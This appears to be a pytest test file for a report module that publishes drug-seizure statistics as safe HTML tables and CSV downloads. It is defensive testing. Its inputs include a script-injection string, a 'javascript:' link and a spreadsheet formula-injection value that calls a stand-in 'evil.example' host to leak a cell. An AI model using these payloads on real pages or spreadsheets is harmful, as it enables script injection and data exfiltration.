"""bulletin.publish.report: what a notebook shows and records, made safe for readers."""

from __future__ import annotations

import html
import io
import re
import urllib.parse

import numpy as np
import pandas as pd
import pytest

from bulletin.publish import report

ATTACK = "<script>alert(1)</script>"


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch) -> list[tuple[dict, dict]]:
    """What the functions display, as (data, metadata) pairs, instead of sending it to a kernel."""
    displayed: list[tuple[dict, dict]] = []

    def fake_display(obj, raw=False, metadata=None):
        assert raw, "report displays raw MIME bundles"
        displayed.append((obj, metadata or {}))

    monkeypatch.setattr(report, "display", fake_display)
    return displayed


def _csv_of(html_text: str) -> str:
    href = html_text.split('href="data:text/csv;charset=utf-8,', 1)[1].split('"', 1)[0]
    return urllib.parse.unquote(href)


def test_markdown_keeps_emphasis_but_escapes_html_and_disarms_scripts():
    html_text = report.markdown_to_html(f"**Almost four tons** {ATTACK} [x](javascript:alert(1))")
    assert "<strong>Almost four tons</strong>" in html_text
    assert "<script" not in html_text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_text
    assert "javascript:" not in html_text


def test_show_text_displays_safe_html(shown):
    report.show_text(f"A workshop: {ATTACK}")
    data, _ = shown[0]
    assert "<script" not in data["text/html"]
    assert data["text/plain"] == f"A workshop: {ATTACK}"


def test_table_has_header_cells_caption_note_and_csv():
    frame = pd.DataFrame({"Country": ["Kazakhstan", "Kyrgyzstan"], "Tons": [1.234, 0.5]})
    html_text = report.table_figure_html(report.table_facts(frame, "Seizures (tons)", note="Source: X.", decimals=2))
    assert '<th scope="col">Country</th>' in html_text
    assert '<th scope="col" class="num">Tons</th>' in html_text
    assert "<figcaption>Seizures (tons)</figcaption>" in html_text
    assert '<p class="table-note">Source: X.</p>' in html_text
    assert '<td>Kazakhstan</td><td class="num">1.23</td>' in html_text
    assert 'download="seizures-tons.csv"' in html_text
    csv = pd.read_csv(io.StringIO(_csv_of(html_text)))
    pd.testing.assert_frame_equal(csv, frame)  # the note is said beside it, not on every row


def test_table_escapes_data_in_cells_headers_caption_and_note():
    frame = pd.DataFrame({ATTACK: [ATTACK]})
    html_text = report.table_figure_html(report.table_facts(frame, ATTACK, note=ATTACK))
    visible = html_text.split('<p class="bulletin-download">')[0]
    assert "<script" not in visible
    assert visible.count("&lt;script&gt;") == 5  # header, cell, caption, note, the scroll box's name
    assert "<script" not in urllib.parse.unquote(html_text.split("data:text/csv")[0])


def test_show_table_carries_its_facts_as_data_in_the_same_output(shown):
    note = "Source: X. Data status: official figures (2016); reconstructed by this project where no figure is published, not official (2017)."
    report.show_table(pd.DataFrame({"a": [1]}), "Caption", note, statuses=["reconstructed", "official"])
    assert len(shown) == 1
    data, metadata = shown[0]
    assert metadata == {}
    assert data["text/plain"] == "Caption"
    facts = data[report.TABLE_MIMETYPE]
    assert facts["caption"] == "Caption" and facts["note"] == note
    assert facts["statuses"] == ["official", "reconstructed"]
    assert facts["filename"] == "caption.csv"
    assert pd.read_csv(io.StringIO(facts["csv"])).columns.tolist() == ["a"]
    assert facts["html"] == report.table_html(pd.DataFrame({"a": [1]}), label="Caption")
    assert data["text/html"] == report.table_figure_html(facts)


def test_show_table_takes_the_statuses_as_data(shown):
    report.show_table(pd.DataFrame({"a": [1]}), "Caption", "Any words", statuses=["stated", "official"])
    assert shown[0][0][report.TABLE_MIMETYPE]["statuses"] == ["official", "stated"]


def test_a_table_note_is_never_read_for_its_statuses(shown):
    # The note names reconstructed figures: reading it would give ["reconstructed"].
    report.show_table(pd.DataFrame({"a": [1]}), "Caption", f"Source: X. {RECONSTRUCTED}", statuses=["official"])
    report.show_table(pd.DataFrame({"a": [1]}), "Caption", f"Source: X. {RECONSTRUCTED}")
    assert [data[report.TABLE_MIMETYPE]["statuses"] for data, _ in shown] == [["official"], []]


def test_a_table_is_numbered_from_its_facts():
    facts = report.table_facts(pd.DataFrame({"a": [1]}), "Caption <b>", "Note")
    numbered = report.table_figure_html(facts, 3)
    assert numbered.startswith(
        '<figure class="bulletin-table" id="table-3"><figcaption>'
        '<span class="bulletin-number">Table 3.</span> Caption &lt;b&gt;</figcaption>'
        '<div class="table-scroll" tabindex="0" role="region" aria-label="Caption &lt;b&gt;">'
        '<table'
    )
    assert numbered.replace(' id="table-3"', "").replace(
        '<span class="bulletin-number">Table 3.</span> ', "") == report.table_figure_html(facts)


RECONSTRUCTED = "Data status: reconstructed by this project where no figure is published, not official (2017)."


@pytest.mark.parametrize(
    ("field", "expected"),
    [
        ("official+reconstructed", {"official", "reconstructed"}),
        ("official+reconstructed+stated", {"official", "reconstructed", "stated"}),
        ("reconstructed", {"reconstructed"}),
        ("", set()),
    ],
)
def test_split_statuses_of_a_record_field(field, expected):
    assert report.split_statuses(field) == expected


@pytest.mark.parametrize(
    "sentence", [RECONSTRUCTED, "Data status: official figures (2010-2016); estimates (2017)."]
)
def test_split_statuses_reads_no_sentence(sentence):
    with pytest.raises(ValueError, match="not a status field"):
        report.split_statuses(sentence)


def test_order_statuses():
    assert report.order_statuses({"reconstructed", "stated", "official"}) == [
        "official", "stated", "reconstructed"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Seizures in Central Asia (January-March 2017)", "seizures-in-central-asia-january-march-2017"),
        (ATTACK, "script-alert-1-script"),
        ("***", "data"),
    ],
)
def test_slug(text, expected):
    assert report.slug(text) == expected


def test_csv_link_is_self_contained():
    link = report.csv_link("a,b\n1,<x>\n", "data.csv")
    assert link.startswith('<p class="bulletin-download"><a href="data:text/csv;charset=utf-8,')
    assert "<x>" not in link and _csv_of(link) == "a,b\n1,<x>\n"


def test_record_figure_and_claim(shown):
    report.record_figure("x_t", np.float64(1.5), "t", "2017-Q1", "official")
    report.record_claim("C1", "words", {"v": float("nan")}, True,
                        "It holds. Checked against official figures.", basis="official")
    figure, claim = shown[0][0], shown[1][0]
    assert figure[report.FIGURE_MIMETYPE] == {
        "name": "x_t", "value": 1.5, "unit": "t", "period": "2017-Q1", "status": "official"
    }
    assert claim[report.CLAIM_MIMETYPE]["values"] == {"v": None}
    assert claim[report.CLAIM_MIMETYPE]["holds"] is True
    assert claim[report.CLAIM_MIMETYPE]["basis"] == "official"


def test_record_claim_takes_a_claim_the_data_cannot_test(shown):
    report.record_claim("C8", "words", {}, None,
                        "Not testable on public data: IDS holds no cannabis cases. The figures "
                        "examined are official.", basis="official")
    claim = shown[0][0][report.CLAIM_MIMETYPE]
    assert claim["holds"] is None and claim["basis"] == "official"
    assert "NOT TESTABLE" in shown[0][0]["text/plain"]


@pytest.mark.parametrize(
    ("holds", "verdict", "basis", "error"),
    [
        (True, "It holds.", "official", "must say its basis"),
        (True, "It holds. Checked against official figures.", "published", "basis must be one of"),
        (None, "No cannabis. Checked against official figures.", "official", "Not testable"),
        (True, "Holds. Partly official.", "reconstructed", "must say its basis"),
    ],
)
def test_record_claim_refuses_a_verdict_that_hides_its_basis(shown, holds, verdict, basis, error):
    with pytest.raises(ValueError, match=error):
        report.record_claim("C1", "words", {}, holds, verdict, basis=basis)
    assert shown == []


def test_record_data_counts_rows_and_quantity_by_status(shown):
    frame = pd.DataFrame(
        {
            "year": [2015, 2016, 2016, 2017],
            "kg": [1.0, 3.0, 4.0, 2.0],
            "status": ["official", "official", "reconstructed", "stated"],
        }
    )
    report.record_data(frame, "seizures_annual")
    record = shown[0][0][report.DATA_MIMETYPE]
    assert record["table"] == "seizures_annual" and record["rows"] == 4
    assert record["quantity"] == "kg" and record["quantity_total"] == 10.0
    assert list(record["statuses"]) == ["official", "stated", "reconstructed"]
    assert record["statuses"]["official"] == {
        "rows": 2, "rows_pct": 50.0, "quantity": 4.0, "quantity_pct": 40.0, "years": "2015-2016"
    }
    assert record["statuses"]["reconstructed"]["quantity_pct"] == 40.0
    assert record["statuses"]["stated"]["years"] == "2017"
    assert "official 50% of rows (40% of kg)" in shown[0][0]["text/plain"]


def test_record_data_without_a_quantity_counts_rows_only(shown):
    frame = pd.DataFrame({"value": [5.9, 4.3], "status": ["stated", "stated"]})
    report.record_data(frame, "indicators")
    record = shown[0][0][report.DATA_MIMETYPE]
    assert record["quantity"] is None and record["quantity_total"] is None
    assert record["statuses"] == {
        "stated": {"rows": 2, "rows_pct": 100.0, "quantity": None, "quantity_pct": None, "years": ""}
    }


def test_empty_text_shows_nothing(shown):
    report.show_text("  ")
    assert shown == []


def test_table_cells_numbers_years_and_missing_values():
    frame = pd.DataFrame(
        {
            "Year": [2016, 2017],
            "Offences": [13588, 9],
            "Tons": [1234.5, float("nan")],
            "Status": ["official", None],
        }
    )
    html_text = report.table_html(frame, decimals=1)
    assert '<td class="num">2016</td><td class="num">13,588</td><td class="num">1,234.5</td>' in (
        html_text
    )
    assert '<td class="num">2017</td><td class="num">9</td><td class="num">–</td><td>–</td>' in (
        html_text
    )
    assert html_text.count("<th ") == 4 and "<thead>" in html_text and "<tbody>" in html_text


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_table_download_never_carries_a_formula_a_spreadsheet_would_run():
    # Issue 12: an activity title like this ended up verbatim in the page's CSV download.
    frame = pd.DataFrame(
        {"Title": [FORMULA, "+cmd", "@SUM(A1)", "-2+3", "Workshop"], "Change (%)": [-5.5, 1, 2, 3, 4]}
    )
    csv = pd.read_csv(io.StringIO(_csv_of(report.table_figure_html(report.table_facts(frame, "Activities")))))
    assert csv["Title"].tolist() == ["'" + FORMULA, "'+cmd", "'@SUM(A1)", "'-2+3", "Workshop"]
    assert csv["Change (%)"].tolist() == [-5.5, 1, 2, 3, 4]  # numbers unchanged


def test_table_download_neutralises_a_formula_in_a_column_name():
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert _csv_of(report.table_figure_html(report.table_facts(frame, "X"))).splitlines()[0] == "'=1+1"


def test_the_renderer_collects_data_records_for_run_json(shown):
    from bulletin.render.engine import collect_data, collect_records

    frame = pd.DataFrame({"count": [3, 1], "status": ["official", "reconstructed"]})
    report.record_data(frame, "drug_offences")
    report.record_claim("C9", "words", {}, True, "Partly official.", basis="mixed")
    outputs = [{"output_type": "display_data", "data": data} for data, _ in shown]
    nb = {"cells": [{"cell_type": "code", "outputs": outputs}]}
    assert collect_data(nb) == [report.data_record(frame, "drug_offences")]
    figures, claims = collect_records(nb)
    assert figures == [] and [c["basis"] for c in claims] == ["mixed"]


def test_a_table_prints_numbers_as_a_statistical_office_does():
    # Issue 17: shares and changes to one decimal, thousands grouped (a header naming "year" that
    # is not a column of years included), a missing value as the one mark with its key.
    frame = pd.DataFrame({
        "Year": [2016, 2017],
        "Tons": [2100.0, 0.003],
        "Change on a year before (%)": [2100.0, -65.875],
        "Share (%)": [None, 0.25],
    })
    grid = report.table_html(frame, decimals=2)
    cells = [html.unescape(cell) for cell in re.findall(r"<td[^>]*>([^<]*)</td>", grid)]
    assert cells == ["2016", "2,100.00", "2,100.0", "–", "2017", "<0.01", "-65.9", "0.3"]
    shown = report.table_figure_html(report.table_facts(frame, "Caption", "Source: X."))
    assert "Source: X. –: no figure (not reported, or nothing to compare with)." in shown
    without_dash = report.table_figure_html(report.table_facts(frame.fillna(1.0), "Caption", "N."))
    assert "no figure" not in without_dash


def test_a_download_keeps_the_source_precision_without_float_artefacts():
    frame = pd.DataFrame({"t": [3171.24 / 1000, 0.1 + 0.2, 2e-06, None], "n": [17694, 1, 2, 3]})
    csv = report.csv_text(frame)
    assert csv.splitlines() == ["t,n", "3.17124,17694", "0.3,1", "0.000002,2", ",3"]


def test_a_download_gives_computed_shares_two_decimals():
    csv = report.csv_text(pd.DataFrame({"share_pct": [100 / 3, None], "Change (%)": [-65.87566, 1.0]}))
    assert csv.splitlines() == ["share_pct,Change (%)", "33.33,-65.88", ",1"]
